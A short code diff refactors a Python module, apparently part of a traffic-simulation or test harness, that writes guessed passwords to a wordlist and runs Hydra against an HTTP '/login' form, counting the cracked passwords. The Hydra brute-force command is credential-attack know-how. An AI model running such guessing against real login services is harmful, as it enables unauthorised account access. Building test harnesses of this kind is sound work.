@@ -6,7 +6,7 @@ import re
 
 from common import Session, emit, main, word
 from common_shop import PASSWORDS, close, request
-from common_tools import folder, run_tool
+from common_tool import home, run_tool
 
 MAX_RATE_S = 10.0
 
@@ -48,12 +48,14 @@ def _by_requests(session: Session, guesses: list[str]) -> int:
 
 
 def _by_hydra(session: Session, guesses: list[str]) -> int:
-    with folder() as home:
-        (home / "words").write_text("\n".join(guesses) + "\n")
+    with home() as folder:
+        (folder / "words").write_text("\n".join(guesses) + "\n")
         command = ["hydra", "-l", word(session.rng), "-P", "words", "-I", "-f"]
         command += ["-t", str(session.params["parallel"]), "-s", str(session.port)]
         command += [session.peer["address"], "http-post-form"]
-        said = run_tool(session, [*command, "/login:user=^USER^&password=^PASS^:F=401"], home=home)
+        said = run_tool(
+            session, [*command, "/login:user=^USER^&password=^PASS^:F=401"], folder, fine=None
+        ).output
     return len(re.findall(r"password: \S+", said))
 
 
